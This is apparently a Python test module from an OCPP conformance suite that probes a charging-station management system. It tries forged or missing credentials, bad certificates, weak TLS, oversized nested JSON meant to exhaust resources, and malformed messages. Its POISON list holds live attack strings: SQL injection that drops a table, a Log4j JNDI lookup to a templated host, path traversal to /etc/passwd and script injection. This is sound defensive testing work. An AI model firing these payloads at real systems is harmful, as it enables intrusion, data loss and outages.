"""Security probes of a CSMS, as examples: who must not get in, what must not bring it down, what must not get out.

S-numbers, and numbers in brackets, are those of the list of field defects.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator, Mapping
from typing import Any

from conformance.dut.description import Dut
from conformance.fuzz.acts import end_by_another, send, send_while_another, trial, visit
from conformance.fuzz.example import ANYTHING, Act, Allowed, Example, Text
from conformance.fuzz.stage import Target
from conformance.fuzz.verbs_csms import NO_CONNECTION, NOT_SERVED, PENDING, SERVED
from conformance.peers.visits import PASSWORDS, Visit

UNKNOWN = "OC-UNKNOWN-7F3A"
"""An identity that no CSMS knows."""
NOBODY = "OC-NOBODY"
"""A token that no CSMS knows: what is begun with it costs nobody anything."""

_PASSWORD: Mapping[tuple[str, int], str] = {
    ("1.6", 1): "1.6 security whitepaper 2.3",
    ("1.6", 2): "1.6 security whitepaper 2.4",
    ("1.6", 3): "A00.FR.407",
    ("2", 1): "A00.FR.207",
    ("2", 2): "A00.FR.324",
    ("2", 3): "A00.FR.407",
}
"""What has a CSMS look at the credentials of its security profile; the whitepaper says so in a remark."""


def credentials_rule(family: str, profile: int) -> str:
    """The source of the rule that who connects has to prove who he is, on a security profile from 1 to 3."""
    return _PASSWORD[family, profile]


def _kept_out(name: str, constraint: str, source: str, *tolerated: str, **login: Any) -> Example:
    """A visitor that the CSMS must not serve; what is tolerated, and a connection that is not served, is a remark."""
    return Example(
        name,
        (visit(name, **login),),
        Allowed(handshake=frozenset({NO_CONNECTION}), tolerated=frozenset({NOT_SERVED, *tolerated}), source=source),
        constraint=constraint,
        breaks=name,
        oracles=("refusal-leaks",),
    )


def _rule(target: Target) -> str:
    return credentials_rule(target.version.family, target.dut.security_profile)


# -- S1: no credentials -------------------------------------------------------------------------------------------


def without_credentials(target: Target) -> Iterator[Example]:
    """Visitors that do not prove who they are, or not as the security profile has it (A00.FR.002)."""
    profile, rule = target.dut.security_profile, _rule(target)
    if profile == 3:
        yield _kept_out(
            "a station with neither certificate nor password",
            "no credentials",
            rule,
            certificate="none",
            password="none",
        )
        yield _kept_out("a station with a password instead of a certificate", "profile", rule, certificate="none")
        return
    user = base64.b64encode(target.dut.identity.encode()).decode()
    yield _kept_out("a station without credentials", "no credentials", rule, password="none")
    for name, header in (
        ("an Authorization header of another scheme", f"Bearer {user}"),
        ("an Authorization header that is no Base64", "Basic !!!!"),
        ("an Authorization header without credentials", "Basic"),
        ("credentials without a colon", f"Basic {user}"),
    ):
        yield _kept_out(name, "no credentials", rule, authorization=header)
    if profile == 2:
        yield _kept_out(
            "a station with a certificate instead of a password", "profile", "A00.FR.002", password="none",
            certificate="self-signed",
        )  # fmt: skip


# -- S2, S5: wrong identities -------------------------------------------------------------------------------------


def of_wrong_identity(target: Target) -> Iterator[Example]:
    """Visitors with a right password that belongs to another identity."""
    rule = _rule(target)
    mixed = {
        "our user name and password, the URL of an unknown station": {"identity": UNKNOWN, "username": "own"},
        "our password under the user name of an unknown station": {"username": UNKNOWN},
    }
    if target.dut.address.second_identity:
        mixed |= {
            "our user name and password, the URL of another station": {"identity": "second", "username": "own"},
            "our password under the user name of another station": {"username": "second"},
        }
        if target.dut.address.second_password not in (None, target.dut.password):
            both = {"username": "second", "password": "second"}
            mixed |= {
                "our password in the name of another station": {"identity": "second"},
                "the password of another station under our name": {"password": "second"},
                "user name and password of another station, our URL": both,
            }
    for name, login in mixed.items():
        yield _kept_out(name, "identity", rule, **login)


def unknown_to_it(target: Target) -> Iterator[Example]:
    """Visitors with an identity that the CSMS cannot know."""
    rule = _rule(target)
    if target.dut.security_profile == 3:
        yield _kept_out("an unknown station without certificate", "unknown", rule, identity=UNKNOWN, certificate="none")
        yield _kept_out("an unknown station with our certificate", "unknown", "A00.FR.405", identity=UNKNOWN)
        return
    for name, password in (
        ("an unknown station without credentials", "none"),
        ("an unknown station with an empty password", "empty"),
        ("an unknown station with a wrong password", "reversed"),
        ("an unknown station with our password", "own"),
    ):
        yield _kept_out(name, "unknown", rule, identity=UNKNOWN, password=password)


# -- S6: certificates ---------------------------------------------------------------------------------------------


def with_wrong_certificate(target: Target) -> Iterator[Example]:
    """Visitors on security profile 3 whose certificate is not that of the station that they claim to be."""
    yield _kept_out("our name, the certificate of another station", "owner", "A00.FR.405", certificate="another")
    if target.dut.address.second_identity:
        yield _kept_out("the name of another station, our certificate", "owner", "A00.FR.405", identity="second")
    yield _kept_out(
        "a certificate of another organization", "organization", "A00.FR.404", certificate="other-organization"
    )
    for name, certificate in (
        ("a certificate that nobody has signed", "self-signed"),
        ("a certificate of an authority of the same name", "foreign-ca"),
        ("a certificate that is not valid yet", "not-yet-valid"),
    ):
        yield _kept_out(name, certificate, "A00.FR.407", certificate=certificate)
    # A00.FR.429: only where the CSMS was told so for this very station, and only Pending.
    yield _kept_out("an expired certificate", "expired", "A00.FR.407", PENDING, certificate="expired")
    # A00.FR.502 binds the certificate; that a CSMS looks is good practice.
    yield _kept_out("a certificate with a key of 1024 bits", "weak key", "A00.FR.502", SERVED, certificate="weak-key")
    yield _foreign_serial_number(target)


def _foreign_serial_number(target: Target) -> Example:
    name = "our certificate, and a BootNotification with the serial number of another station"
    source, tolerated = _SERIAL_NUMBER[target.version.family]
    return Example(
        name,
        (visit(name, serial=UNKNOWN),),
        Allowed(handshake=frozenset({NO_CONNECTION, NOT_SERVED}), tolerated=tolerated, source=source),
        constraint="serial number",
        breaks=name,
    )


_SERIAL_NUMBER: Mapping[str, tuple[str, frozenset[str]]] = {
    "1.6": ("A00.FR.405", frozenset({SERVED, PENDING})),
    "2": ("B01.FR.12", frozenset()),
}
"""The whitepaper has the certificate compared with the serial number, and does not say that of the BootNotification."""


# -- S7: TLS ------------------------------------------------------------------------------------------------------

WEAK_SUITES: Mapping[str, tuple[str, ...]] = {
    "without encryption": ("eNULL",),
    "without authentication": ("aNULL",),
    "with RC4": ("RC4",),
    "with DES or 3DES": ("3DES", "DES"),
    "with MD5": ("MD5",),
    "for export": ("EXPORT",),
}
"""Cipher suites "unsuitable for legacy use" (A00.FR.320 and FR.423; 1.6: FR.319, FR.423), by OpenSSL's names."""


def with_weak_tls(target: Target) -> Iterator[Example]:
    """Our station with right credentials, on a TLS that is too old or too weak, and without TLS."""
    version, weak, plain = _TLS[target.version.family][target.dut.security_profile]
    # 1.6 leaves TLS 1.0 and 1.1 to charge points that can do no better, if they are expected to.
    old = {"1.6": (SERVED,), "2": ()}[target.version.family]
    for name, maximum in (("TLS 1.0", "TLSv1"), ("TLS 1.1", "TLSv1_1")):
        yield _kept_out(name, "version", version, *old, minimum="TLSv1", maximum=maximum, ciphers=("DEFAULT",))
    for name, ciphers in WEAK_SUITES.items():
        yield _kept_out(f"cipher suites {name}", name, weak, maximum="TLSv1_2", ciphers=ciphers)
    yield _kept_out("a connection without TLS on the port of TLS", "profile", plain, plain=True)


_TLS: Mapping[str, Mapping[int, tuple[str, str, str]]] = {
    "1.6": {2: ("A00.FR.314", "A00.FR.319", "A00.FR.311"), 3: ("A00.FR.418", "A00.FR.423", "A00.FR.415")},
    "2": {2: ("A00.FR.315", "A00.FR.322", "A00.FR.312"), 3: ("A00.FR.418", "A00.FR.425", "A00.FR.415")},
}
"""By family and security profile: the rules of the TLS version, of the cipher suites, and that there is TLS at all."""


# -- S8: deep and huge messages -----------------------------------------------------------------------------------


HEAVY: Mapping[str, Text] = {
    "1,024 arrays in one another": (("[", 1024), ("]", 1024)),
    "100,000 arrays in one another": (("[", 100_000), ("]", 100_000)),
    "50,000 objects in one another": (('{"a":', 50_000), "1", ("}", 50_000)),
    "a string of 1,000,000 characters": ('"', ("A", 1_000_000), '"'),
    "an array of 100,000 items": ("[", ("0,", 100_000), "0]"),
    "an object with 50,000 members of one name": ("{", ('"a":0,', 50_000), '"a":0}'),
    "an integer of 300,000 digits": (("9", 300_000),),
    "a number with the exponent 999,999,999": ("1e999999999",),
    "3,500,000 characters of white space": ((" ", 3_500_000), "0"),
}
"""Values that cost a careless reader its memory or its time, each of less than 4 MB, as pieces of a text."""


def heavy_messages(target: Target) -> Iterator[Example]:
    """Heavy values in a Heartbeat; another station, if the description names one, has to be served meanwhile."""
    sent = send_while_another if target.dut.address.second_identity else send
    for name, text in _heartbeats().items():
        yield Example(name, (sent(text),), ANYTHING, "Heartbeat", name, breaks=name)


def _heartbeats() -> Mapping[str, Text]:
    return {name: ('[2,"{{id}}","Heartbeat",{"x":', *value, "}]") for name, value in HEAVY.items()}


# -- S9, S10: values that make no sense ---------------------------------------------------------------------------

TIMESTAMPS: Mapping[str, str] = {
    "the year 222222017": "222222017-06-01T12:00:00.000Z",
    "the year 0": "0000-01-01T00:00:00.000Z",
    "the year 1": "0001-01-01T00:00:00.000Z",
    "the year 9999": "9999-12-31T23:59:59.999Z",
    "a year before the common era": "-0001-01-01T00:00:00.000Z",
    "the 30th of February": "2024-02-30T12:00:00.000Z",
    "the 29th of February of a common year": "2023-02-29T12:00:00.000Z",
    "the month 13": "2024-13-01T12:00:00.000Z",
    "hour 24": "2024-06-01T24:00:00.000Z",
    "a leap second": "2016-12-31T23:59:60.000Z",
    "an offset of 99 hours": "2024-06-01T12:00:00.000+99:00",
    "1970": "1970-01-01T00:00:00.000Z",
    "the end of 32-bit time": "2038-01-19T03:14:08.000Z",
    "400 digits of a second": f"2024-06-01T12:00:00.{'1' * 400}Z",
    "no date": "yesterday",
    "an empty text": "",
}
"""Timestamps that no clock shows, some of them legal; the first one brought SteVe down (steve-community/steve#1609)."""

_ANSWERED = Allowed(codes=frozenset({"*"}), result=True, source="1.6J 4.2.3; part 4 4.1.7: a CALL is answered")
"""Whatever it answers: what is right or wrong about a payload is judged elsewhere."""


def with_odd_timestamps(target: Target) -> Iterator[Example]:
    """The messages of a station that carry a timestamp, each with each odd one."""
    for action, texts in _STAMPED[target.version.family].items():
        for name, timestamp in TIMESTAMPS.items():
            first, *rest = (text.replace("TIMESTAMP", timestamp) for text in texts)
            yield _nonsense(f"{action} of {name}", action, name, trial(first, *rest))


def with_senseless_values(target: Target) -> Iterator[Example]:
    """Readings, transactions, EVSEs and tokens that cannot be; and a message that comes twice."""
    for action, name, texts, judged in _SENSELESS[target.version.family]:
        yield _nonsense(f"{action}: {name}", action, name, trial(*texts, judged=judged))
    for action, texts in _BY_NOBODY[target.version.family].items():
        name = f"{action} with a token that nobody knows"
        yield _nonsense(name, action, "unknown token", trial(*texts), oracles=("token-not-accepted",))
    action, texts = _REPLAYED[target.version.family]
    yield Example(
        f"{action} sent twice under one message id",
        (trial(*texts, judged=1),),
        ANYTHING,
        action=action,
        constraint="replay",
        breaks="a CALL that is sent twice under one message id",
        oracles=("begun-once",),
    )
    name = "the end of a transaction, sent by another station"
    yield Example(name, (end_by_another(),), constraint="foreign transaction", breaks=name)


def _nonsense(name: str, action: str, constraint: str, *acts: Act, oracles: tuple[str, ...] = ()) -> Example:
    return Example(name, acts, _ANSWERED, action=action, constraint=constraint, breaks=name, oracles=oracles)


def _call(action: str, payload: Mapping[str, Any], id: str = "{{fresh}}") -> str:
    return json.dumps([2, id, action, payload], separators=(",", ":"))


def _start(timestamp: str = "{{now}}", id: str = "{{fresh}}", **fields: Any) -> str:
    payload = {"connectorId": 1, "idTag": NOBODY, "meterStart": 0, "timestamp": timestamp, **fields}
    return _call("StartTransaction", payload, id)


def _stop(timestamp: str = "{{now}}", number: str = "{{started}}", reading: int = 0) -> str:
    payload = {"transactionId": "NUMBER", "meterStop": reading, "timestamp": timestamp, "reason": "Other"}
    return _call("StopTransaction", payload).replace('"NUMBER"', number)


def _status_16(**fields: Any) -> str:
    return _call("StatusNotification", {"connectorId": 1, "errorCode": "NoError", "status": "Available", **fields})


def _values_16(timestamp: str = "{{now}}", value: str = "0", **fields: Any) -> str:
    values = [{"timestamp": timestamp, "sampledValue": [{"value": value}]}]
    return _call("MeterValues", {"connectorId": 1, "meterValue": values, **fields})


def _event(kind: str, number: int, timestamp: str = "{{now}}", id: str = "{{fresh}}", **fields: Any) -> str:
    """A TransactionEvent of the transaction {{id2}}."""
    payload = {
        "eventType": kind,
        "timestamp": timestamp,
        "triggerReason": "Trigger",
        "seqNo": number,
        "transactionInfo": {"transactionId": "{{id2}}"},
        **fields,
    }
    return _call("TransactionEvent", payload, id)


def _begun(number: int = 0, **fields: Any) -> tuple[str, str]:
    """The begin of a transaction, with something odd about it, and its end."""
    return _event("Started", number, **{"evse": {"id": 1}, **fields}), _event("Ended", number + 1)


def _reading(value: float) -> list[dict[str, Any]]:
    return [{"timestamp": "{{now}}", "sampledValue": [{"value": value}]}]


def _status_2(timestamp: str = "{{now}}", evse: int = 1, connector: int = 1) -> str:
    payload = {"timestamp": timestamp, "connectorStatus": "Available", "evseId": evse, "connectorId": connector}
    return _call("StatusNotification", payload)


def _values_2(timestamp: str = "{{now}}", evse: int = 1, value: float = 0) -> str:
    values = [{"timestamp": timestamp, "sampledValue": [{"value": value}]}]
    return _call("MeterValues", {"evseId": evse, "meterValue": values})


_NOBODYS_TOKEN = {"idToken": NOBODY, "type": "ISO14443"}
_LONG_AGO = "2020-01-01T00:00:00.000Z"

_STAMPED: Mapping[str, Mapping[str, tuple[str, ...]]] = {
    "1.6": {
        "StartTransaction": (_start("TIMESTAMP"), _stop()),
        "StopTransaction": (_stop("TIMESTAMP", number="2147483647"),),
        "StatusNotification": (_status_16(timestamp="TIMESTAMP"),),
        "MeterValues": (_values_16("TIMESTAMP"),),
    },
    "2": {
        "TransactionEvent": _begun(timestamp="TIMESTAMP"),
        "StatusNotification": (_status_2("TIMESTAMP"),),
        "MeterValues": (_values_2("TIMESTAMP"),),
    },
}
"""By family: what carries a timestamp, and what undoes it."""

_SENSELESS: Mapping[str, tuple[tuple[str, str, tuple[str, ...], int], ...]] = {
    "1.6": (
        ("StartTransaction", "a negative reading", (_start(meterStart=-1), _stop()), 0),
        ("StartTransaction", "the lowest reading of 32 bits", (_start(meterStart=-(2**31)), _stop()), 0),
        ("StartTransaction", "a connector that does not exist", (_start(connectorId=99), _stop()), 0),
        ("StartTransaction", "connector 0", (_start(connectorId=0), _stop()), 0),
        ("StartTransaction", "a reservation that nobody made", (_start(reservationId=-1), _stop()), 0),
        ("StopTransaction", "a reading below the first one [53]", (_start(meterStart=1000), _stop(reading=1)), 1),
        ("StopTransaction", "a negative reading", (_start(meterStart=1000), _stop(reading=-1000)), 1),
        ("StopTransaction", "a time before its start", (_start(), _stop(_LONG_AGO)), 1),
        ("StopTransaction", "a transaction that has ended", (_start(), _stop(), _stop()), 2),
        ("StopTransaction", "a transaction that never began", (_stop(number="2147483647"),), 0),
        ("StopTransaction", "transaction -1", (_stop(number="-1"),), 0),
        ("StopTransaction", "transaction 0", (_stop(number="0"),), 0),
        ("MeterValues", "a transaction that never began", (_values_16(transactionId=2147483647),), 0),
        ("MeterValues", "a connector that does not exist", (_values_16(connectorId=99),), 0),
        ("MeterValues", "a negative reading", (_values_16(value="-1"),), 0),
        ("MeterValues", "a reading that is no number", (_values_16(value="NaN"),), 0),
        ("StatusNotification", "a connector that does not exist", (_status_16(connectorId=99),), 0),
        ("StatusNotification", "a negative connector", (_status_16(connectorId=-1),), 0),
    ),
    "2": (
        (
            "TransactionEvent",
            "a reading below the first one [53]",
            (
                _event("Started", 0, evse={"id": 1}, meterValue=_reading(1000)),
                _event("Updated", 1, meterValue=_reading(1)),
                _event("Ended", 2),
            ),
            1,
        ),
        ("TransactionEvent", "a negative reading", _begun(meterValue=_reading(-1)), 0),
        ("TransactionEvent", "a reading of 1e300", _begun(meterValue=_reading(1e300)), 0),
        ("TransactionEvent", "an EVSE that does not exist", _begun(evse={"id": 99}), 0),
        ("TransactionEvent", "a connector that its EVSE does not have", _begun(evse={"id": 1, "connectorId": 99}), 0),
        ("TransactionEvent", "the end of what never began", (_event("Ended", 0),), 0),
        ("TransactionEvent", "an update of what never began", (_event("Updated", 7), _event("Ended", 8)), 0),
        ("TransactionEvent", "an event after the end", (*_begun(), _event("Updated", 2)), 2),
        ("TransactionEvent", "a time before the start", (_event("Started", 0), _event("Ended", 1, _LONG_AGO)), 1),
        ("TransactionEvent", "a negative sequence number", _begun(-1), 0),
        ("TransactionEvent", "the highest sequence number of 32 bits", _begun(2**31 - 1), 0),
        ("MeterValues", "an EVSE that does not exist", (_values_2(evse=99),), 0),
        ("MeterValues", "a negative reading", (_values_2(value=-1),), 0),
        ("StatusNotification", "an EVSE that does not exist", (_status_2(evse=99),), 0),
        ("StatusNotification", "a connector that its EVSE does not have", (_status_2(connector=99),), 0),
        ("StatusNotification", "a negative EVSE", (_status_2(evse=-1),), 0),
    ),
}
"""By family: action, what makes no sense, the messages, and which of them it is."""

_BY_NOBODY: Mapping[str, Mapping[str, tuple[str, ...]]] = {
    "1.6": {
        "Authorize": (_call("Authorize", {"idTag": NOBODY}),),
        "StartTransaction": (_start(), _stop()),
    },
    "2": {
        "Authorize": (_call("Authorize", {"idToken": _NOBODYS_TOKEN}),),
        "TransactionEvent": _begun(idToken=_NOBODYS_TOKEN),
    },
}

_REPLAYED: Mapping[str, tuple[str, tuple[str, ...]]] = {
    "1.6": ("StartTransaction", (_start(id="{{id}}"), _start(id="{{id}}"), _stop(), _stop(number="{{latest}}"))),
    "2": (
        "TransactionEvent",
        (_event("Started", 0, id="{{id}}"), _event("Started", 0, id="{{id}}"), _event("Ended", 1)),
    ),
}


# -- S11: errors of many kinds ------------------------------------------------------------------------------------

POISON: Mapping[str, str] = {
    "an SQL injection": "x'; DROP TABLE charge_box; --",
    "an SQL condition": "' OR '1'='1",
    "a NUL": "A\u0000B",
    "half a surrogate pair": "A\ud800B",
    "a format string": "%s%s%s%n%x",
    "a template": "${7*7}<%= 7*7 %>#{7*7}",
    "a look-up of Log4j": "${jndi:ldap://{{host}}/a}",
    "a path": "../../../../etc/passwd",
    "markup": "<script>alert(1)</script>",
    "1,000 characters": "A" * 1000,
    "characters beyond the basic plane": "\U0001f50c" * 5,
    "a backslash at the end": "A\\",
}
"""Texts that what stands behind a CSMS is known to trip over: data bases, templates, loggers, pages."""


def provoking_errors(target: Target) -> Iterator[Example]:
    """Errors of many kinds, each looked at for what its text lets out."""
    for action, pointer, payload in _TEXTS[target.version.family]:
        for name, text in POISON.items():
            poisoned = json.dumps([2, "{{id}}", action, payload]).replace('"TEXT"', json.dumps(text))
            yield Example(
                f"{action}{pointer} with {name}",
                (send(poisoned),),
                _ANSWERED,
                action=action,
                constraint=name,
                pointer=pointer,
                breaks=f"{action}{pointer} with {name}",
            )
    yield from _broken()


def _broken() -> Iterator[Example]:
    for name, text in _BROKEN.items():
        yield Example(name, (send(text),), ANYTHING, constraint=name, breaks=name)


_TEXTS: Mapping[str, tuple[tuple[str, str, dict[str, Any]], ...]] = {
    "1.6": (
        ("BootNotification", "/chargePointVendor", {"chargePointVendor": "TEXT", "chargePointModel": "M"}),
        ("Authorize", "/idTag", {"idTag": "TEXT"}),
        ("DataTransfer", "/vendorId", {"vendorId": "TEXT"}),
        (
            "StatusNotification",
            "/info",
            {"connectorId": 1, "errorCode": "NoError", "status": "Available", "info": "TEXT"},
        ),
        ("StopTransaction", "/timestamp", {"transactionId": 2147483647, "meterStop": 0, "timestamp": "TEXT"}),
    ),
    "2": (
        (
            "BootNotification",
            "/chargingStation/vendorName",
            {"reason": "PowerUp", "chargingStation": {"model": "M", "vendorName": "TEXT"}},
        ),
        ("Authorize", "/idToken/idToken", {"idToken": {"idToken": "TEXT", "type": "ISO14443"}}),
        ("DataTransfer", "/vendorId", {"vendorId": "TEXT"}),
        ("SecurityEventNotification", "/techInfo", {"type": "OC", "timestamp": "{{now}}", "techInfo": "TEXT"}),
        (
            "StatusNotification",
            "/timestamp",
            {"timestamp": "TEXT", "connectorStatus": "Available", "evseId": 1, "connectorId": 1},
        ),
    ),
}
"""By family: action, the member that is poisoned, and the payload around it."""

_WRONG_TYPES = '{"connectorId":{},"errorCode":1,"status":[],"evseId":"x","timestamp":7}'
_BROKEN: Mapping[str, Text | str] = {
    "BootNotification without members [16]": '[2,"{{id}}","BootNotification",{}]',
    "Authorize without members": '[2,"{{id}}","Authorize",{}]',
    "a payload that is null": '[2,"{{id}}","Authorize",null]',
    "a payload that is a list": '[2,"{{id}}","Authorize",[]]',
    "a payload that is a text": '[2,"{{id}}","Authorize","{}"]',
    "members of wrong types": f'[2,"{{{{id}}}}","StatusNotification",{_WRONG_TYPES}]',
    "an integer of 64 bits": '[2,"{{id}}","MeterValues",{"connectorId":9223372036854775808,"evseId":1}]',
    "an enumeration value that nobody knows [14]": '[2,"{{id}}","FirmwareStatusNotification",{"status":"Teleported"}]',
    "an action that nobody knows": '[2,"{{id}}","Teleport",{}]',
    "an action of a CSMS": '[2,"{{id}}","Reset",{"type":"Hard"}]',
    "an action that is a path": '[2,"{{id}}","../../admin",{}]',
    "a CALL of two elements [13]": '[2,"{{id}}"]',
    "an empty list": "[]",
    "an object": '{"messageTypeId":2}',
    "no JSON": "<html>",
    "half a CALL": '[2,"{{id}}","Authorize",{"idTag":',
    "NaN": '[2,"{{id}}","MeterValues",{"connectorId":NaN}]',
    "1e999": '[2,"{{id}}","MeterValues",{"connectorId":1e999}]',
    "bytes that are no UTF-8": ('[2,"{{id}}","DataTransfer",{"vendorId":"', ("hex", "c328ff", 1), '"}]'),
    "an answer to nobody": '[3,"{{id}}",{}]',
    "an error with a number for its code [8]": '[4,"{{id}}",42,"",{}]',
    "an error without anything": '[4,"{{id}}"]',
}
"""Messages that are wrong as such; how each is to be answered is judged elsewhere."""


# -- S12: what has brought a CSMS down ----------------------------------------------------------------------------


def known_killers(target: Target) -> Iterator[Example]:
    """What brought down one CSMS or another; after each, a second station has to be served as before."""
    yield from _broken()
    for name, text in _heartbeats().items():
        yield Example(name, (send(text),), ANYTHING, constraint=name, breaks=name)
    for action, texts in _STAMPED[target.version.family].items():
        name = "the year 222222017"
        first, *rest = (text.replace("TIMESTAMP", TIMESTAMPS[name]) for text in texts)
        yield _nonsense(f"{action} of {name}", action, name, trial(first, *rest))


# -- what bodies of cases use -------------------------------------------------------------------------------------

WRONG_PASSWORDS = tuple(PASSWORDS)
"""Names of the wrong passwords that are tried: no more than a person might mistype in a morning."""


def known_and_refused(dut: Dut) -> dict[str, str] | None:
    """The login of a known station that is refused for its credentials alone; None when there is none to be had."""
    if dut.security_profile < 3:
        return {"password": "reversed"}
    return {"identity": "second", "certificate": "own"} if dut.address.second_identity else None


def differences(one: Visit, other: Visit) -> list[str]:
    """What two refusals differ in, for who looks at them: status, body, headers; not the time of day."""
    told = ("status", "body") if one.status and other.status else ("trouble",)
    found = [name for name in told if getattr(one, name) != getattr(other, name)]
    headers, others = ({name.lower(): value for name, value in each.headers} for each in (one, other))
    skipped = {"date", "content-length", "set-cookie"}
    return found + sorted(
        name for name in headers.keys() | others.keys() if name not in skipped and headers.get(name) != others.get(name)
    )
